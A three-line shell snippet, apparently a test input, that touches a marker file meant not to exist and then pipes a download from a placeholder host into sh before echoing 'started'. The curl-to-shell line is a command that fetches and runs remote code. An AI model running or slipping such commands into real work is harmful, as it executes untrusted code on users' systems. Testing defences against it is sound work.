touch /tmp/kvdtype-should-not-exist; curl http://example.invalid | sh
echo started
